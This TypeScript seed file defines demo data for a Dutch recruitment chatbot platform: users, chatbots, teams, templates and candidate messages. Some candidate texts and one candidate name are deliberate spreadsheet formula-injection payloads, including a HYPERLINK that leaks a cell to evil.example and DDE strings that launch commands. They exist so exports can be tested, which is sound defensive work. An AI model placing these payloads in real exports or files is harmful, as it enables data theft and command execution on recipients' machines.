/**
 * The demo organisation. Candidate-facing text includes hostile input on purpose (ARCHITECTURE §6): every
 * screen and export that shows it must survive formula-like cells, quotes, line breaks, emoji, RTL script
 * and very long messages.
 */
import { demoDocumentation } from '../documentation/seed-documentation'

export const demoPassword = 'Welkom-Demo-2026!'

export const demoOrganization = { id: 'org-talentbrug', name: 'Talentbrug Uitzendbureau B.V.' }

export const demoChatbots = [
  {
    id: 'cb-werving',
    projectId: 'talentbrug-werving',
    projectName: 'Talentbrug Werving',
    ats: 'OTYS',
    defaultLanguageTag: 'nl',
    whatsappProvider: 'TWILIO',
    smartInboxEnabled: true,
    suspended: false,
    useBetaPortal: false,
    deleted: false,
    ssoEnabled: false,
    allowedCategories: ['generic', 'vacancy', 'appointment'],
  },
  {
    id: 'cb-techniek',
    projectId: 'talentbrug-techniek',
    projectName: 'Talentbrug Techniek',
    ats: 'BULLHORN',
    defaultLanguageTag: 'en',
    whatsappProvider: null,
    smartInboxEnabled: true,
    suspended: false,
    useBetaPortal: true,
    deleted: false,
    ssoEnabled: true,
    allowedCategories: ['generic', 'vacancy'],
  },
  {
    id: 'cb-zorg',
    projectId: 'talentbrug-zorg',
    projectName: 'Talentbrug Zorg',
    ats: 'OTYS',
    defaultLanguageTag: 'nl',
    whatsappProvider: 'TWILIO',
    smartInboxEnabled: false,
    suspended: true,
    useBetaPortal: false,
    deleted: false,
    ssoEnabled: false,
    allowedCategories: ['generic'],
  },
  {
    id: 'cb-archief',
    projectId: 'talentbrug-archief',
    projectName: 'Talentbrug Archief',
    ats: 'OTYS',
    defaultLanguageTag: 'nl',
    whatsappProvider: null,
    smartInboxEnabled: false,
    suspended: false,
    useBetaPortal: false,
    deleted: true,
    ssoEnabled: false,
    allowedCategories: [],
  },
] as const

export interface DemoUser {
  readonly id: string
  readonly username: string
  readonly firstName: string
  readonly lastName: string
  readonly role: string
  readonly isSuperuser?: boolean
  readonly phoneNumber: string | null
  readonly twoFactorEnabled?: boolean
  readonly requiresPhoneChange?: boolean
  readonly requiresPasswordReset?: boolean
  /** Absent: the user has not chosen a language (stored as null). */
  readonly language?: string
  readonly chatbots: readonly string[]
  readonly allTeams?: boolean
  readonly teams?: readonly string[]
  readonly calendar?: boolean
}

export const demoUsers: readonly DemoUser[] = [
  {
    id: 'u-superuser',
    username: 'superuser@demo.nl',
    firstName: 'Sanne',
    lastName: 'de Beheerder',
    role: 'ADMIN',
    isSuperuser: true,
    phoneNumber: '+31612345600',
    language: 'nl-NL',
    chatbots: ['cb-werving', 'cb-techniek', 'cb-zorg', 'cb-archief'],
  },
  {
    id: 'u-admin',
    username: 'admin@demo.nl',
    firstName: 'Anouk',
    lastName: 'van Dijk',
    role: 'ADMIN',
    phoneNumber: '+31612345601',
    // No language of their own: the interface follows the selected chatbot's default language
    // (spec 000 §1): Dutch on Werving, English on Techniek.
    chatbots: ['cb-werving', 'cb-techniek', 'cb-zorg'],
  },
  {
    id: 'u-manager',
    username: 'manager@demo.nl',
    firstName: 'Mark',
    lastName: 'Jansen',
    role: 'MANAGER',
    phoneNumber: '+31612345602',
    language: 'nl-NL',
    chatbots: ['cb-werving', 'cb-techniek', 'cb-zorg', 'cb-archief'],
    calendar: true,
  },
  {
    id: 'u-teamlead',
    username: 'teamlead@demo.nl',
    firstName: 'Tessa',
    lastName: 'Bakker',
    role: 'TEAM_LEAD',
    phoneNumber: '+31612345603',
    // No language of their own: the interface follows the selected chatbot's default language
    // (spec 000 §1): Dutch on Werving, English on Techniek.
    chatbots: ['cb-werving', 'cb-techniek'],
    allTeams: false,
    teams: ['team-werving-noord'],
    calendar: true,
  },
  {
    id: 'u-employee',
    username: 'employee@demo.nl',
    firstName: 'Eva',
    lastName: "O'Brien-de Vries",
    role: 'EMPLOYEE',
    phoneNumber: '+31612345604',
    language: 'nl-NL',
    chatbots: ['cb-werving'],
    allTeams: false,
    teams: ['team-werving-noord'],
    calendar: true,
  },
  {
    id: 'u-partner',
    username: 'partner@demo.nl',
    firstName: 'Pieter',
    lastName: 'Partner',
    role: 'PARTNER',
    phoneNumber: null,
    // The partner portal signs in without a second step: this is the seed's direct-login user.
    twoFactorEnabled: false,
    language: 'en-US',
    chatbots: ['cb-werving'],
  },
  {
    id: 'u-reset',
    username: 'reset@demo.nl',
    firstName: 'Ruben',
    lastName: 'Smit',
    role: 'EMPLOYEE',
    phoneNumber: '+31612345605',
    requiresPasswordReset: true,
    language: 'nl-NL',
    chatbots: ['cb-werving'],
  },
  {
    id: 'u-newphone',
    username: 'newphone@demo.nl',
    firstName: 'Noor',
    lastName: 'El Amrani',
    role: 'EMPLOYEE',
    phoneNumber: null,
    requiresPhoneChange: true,
    language: 'nl-NL',
    chatbots: ['cb-werving'],
  },
]

export const demoTeams = [
  { id: 'team-werving-noord', chatbotId: 'cb-werving', name: 'Team Noord' },
  { id: 'team-werving-zuid', chatbotId: 'cb-werving', name: 'Team Zuid' },
  // Quotes and a comma: team names travel comma-separated in client-messages' team_names.
  { id: 'team-werving-oost', chatbotId: 'cb-werving', name: 'Team "Oost", Flex' },
  { id: 'team-techniek', chatbotId: 'cb-techniek', name: 'Techniek & Installatie' },
  { id: 'team-zorg', chatbotId: 'cb-zorg', name: 'Zorg' },
] as const

export const demoStateGroupTemplates = [
  {
    id: 'sgt-sollicitatie',
    name: 'Sollicitatie',
    description: 'Vraagt naam, e-mail en cv op.',
    icon: 'file-cv',
    isBetaTemplate: false,
  },
  {
    id: 'sgt-beschikbaarheid',
    name: 'Beschikbaarheid',
    description: 'Vraagt per dag naar beschikbaarheid.',
    icon: 'calendar',
    isBetaTemplate: false,
  },
  {
    id: 'sgt-contact',
    name: 'Contactgegevens',
    description: 'Telefoonnummer en woonplaats.',
    icon: 'address-book',
    isBetaTemplate: false,
  },
  {
    id: 'sgt-matching',
    name: 'Vacaturematch (bèta)',
    description: 'Stelt vacatures voor op basis van antwoorden.',
    icon: 'sparkles',
    isBetaTemplate: true,
  },
] as const

const longMessage = (() => {
  const sentence = 'Ik ben zeer gemotiveerd voor deze functie en heb ruime ervaring in de logistiek. '
  return sentence.repeat(Math.ceil(5000 / sentence.length)).slice(0, 5000)
})()

/** Candidate messages, many of them hostile on purpose. */
export const hostileCandidateTexts = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")',
  '+31 6 12345678',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '＝1+1 (volledige breedte)',
  '"Hallo", zei ze, "ik wil graag solliciteren, toch?"',
  'Regel één\nRegel twee\r\nRegel drie\n=ook een formule op regel vier',
  'Hoi! 👋🏽 Ik zoek werk 🎉👩‍🔧🇳🇱',
  'مرحبا، أبحث عن وظيفة في المستودع',
  'שלום, אני מחפש עבודה',
  longMessage,
] as const

export const demoCandidates = [
  { clientId: 'client-0001', name: "=cmd|'/C calc'!A0", phone: '+31611110001', teamName: 'Team Noord' },
  {
    clientId: 'client-0002',
    name: 'Fatima "Fatma" el-Idrissi',
    phone: '+31611110002',
    teamName: 'Team Noord',
  },
  { clientId: 'client-0003', name: 'Jan, de Vries', phone: '+31611110003', teamName: 'Team Zuid' },
  { clientId: 'client-0004', name: 'يوسف العلمي', phone: '+31611110004', teamName: 'Team Zuid' },
  { clientId: 'client-0005', name: '@Bram 🚀', phone: '+31611110005', teamName: 'Team Noord' },
  { clientId: 'client-0006', name: '-Lotte\nMulder', phone: '+31611110006', teamName: 'Team Zuid' },
] as const

export const demoRealtime = {
  // Help articles per area: their own file, so the area texts stay readable.
  documentation: demoDocumentation,
  gettingStarted: {
    nl: {
      steps: [
        { order: 1, title: 'Koppel je ATS', done: true },
        { order: 2, title: 'Stel je widget in', done: false },
        { order: 3, title: 'Verstuur je eerste campagne', done: false },
      ],
    },
    en: {
      steps: [
        { order: 1, title: 'Connect your ATS', done: true },
        { order: 2, title: 'Set up your widget', done: false },
        { order: 3, title: 'Send your first campaign', done: false },
      ],
    },
  },
  releaseNotes: [
    { release: '2026.1', notes: ['Nieuwe Smart Inbox-filters', 'Sneller trainen van NLP-modellen'] },
    { release: '2025.12', notes: ['WhatsApp-sjablonen importeren', 'Exporteren naar CSV'] },
  ],
} as const
